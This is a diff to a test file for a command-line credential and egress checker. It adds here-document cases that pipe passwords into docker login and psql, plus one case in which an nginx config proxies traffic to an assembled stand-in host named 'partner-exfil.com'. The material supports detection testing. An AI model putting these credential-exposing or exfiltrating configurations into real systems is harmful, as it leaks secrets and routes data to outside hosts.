@@ -285,6 +285,8 @@ describe('credentials on command lines, read as each program reads them', () => 
       ['mongosh pwd', (v) => `mongosh --eval "db.createUser({user:'a', pwd:'${v}', roles:[]})"`],
       ['echo | docker login --password-stdin', (v) => `echo ${v} | docker login -u ci --password-stdin`],
       ["echo 'root:x' | chpasswd", (v) => `echo 'root:${v}' | chpasswd`],
+      ['cat of a here-document into docker login', (v) => `cat <<EOF | docker login -u ci --password-stdin registry.internal\n${v}\nEOF`],
+      ['cat of a here-document into psql', (v) => `cat <<'SQL' | psql\nALTER USER app PASSWORD '${v}';\nSQL`],
       ['a here-string into vault login -', (v) => `vault login - <<< ${v}`],
       ['curl -H X-Auth-Token', (v) => `curl -H 'X-Auth-Token: ${v}' https://api.internal/`],
       ['httpie header', (v) => `http api.internal/x X-Api-Token:${v}`],
@@ -295,6 +297,8 @@ describe('credentials on command lines, read as each program reads them', () => 
       const partner = ['partner', '-exfil', '.com'].join('');
       const verdict = judged(`cat > /etc/nginx/conf.d/x.conf <<EOF\nserver { location / { proxy_pass https://${partner}; } }\nEOF\nexec nginx`);
       expect(verdict).to.contain(`reaches undeclared external host \\"${partner}\\"`);
+      const piped = judged(`cat <<EOF | tee /etc/nginx/conf.d/x.conf\nserver { location / { proxy_pass https://${partner}; } }\nEOF`);
+      expect(piped, 'read by the command the here-document is piped into').to.contain(`reaches undeclared external host \\"${partner}\\"`);
     });
     for (const [what, script] of rows) {
       it(what, () => {
